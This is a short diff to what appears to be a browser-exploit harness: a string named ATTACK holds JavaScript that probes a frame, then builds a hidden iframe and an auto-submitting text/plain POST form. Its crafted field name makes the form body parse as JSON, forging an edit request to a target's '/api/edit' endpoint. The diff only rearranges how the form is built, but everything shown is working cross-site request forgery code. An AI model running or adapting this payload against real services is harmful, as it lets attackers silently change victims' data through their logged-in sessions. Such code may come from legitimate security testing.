@@ -129,8 +129,8 @@ ATTACK = """async (studio) => {
   await loaded(frame).catch(() => {});
   let inside = "empty";
   try { if (frame.contentDocument?.body.childElementCount) inside = "full"; } catch { inside = "empty"; }
-  const form = Object.assign(document.createElement("form"), {method: "post", action: studio + "/api/edit", target: "f"});
-  form.enctype = "text/plain";
+  const form = document.createElement("form");
+  Object.assign(form, {method: "post", action: studio + "/api/edit", target: "f", enctype: "text/plain"});
   form.append(Object.assign(document.createElement("input"), {name: edit.slice(0, -1) + ', "x":"', value: '"}'}));
   document.body.append(Object.assign(document.createElement("iframe"), {name: "f"}), form);
   form.submit();
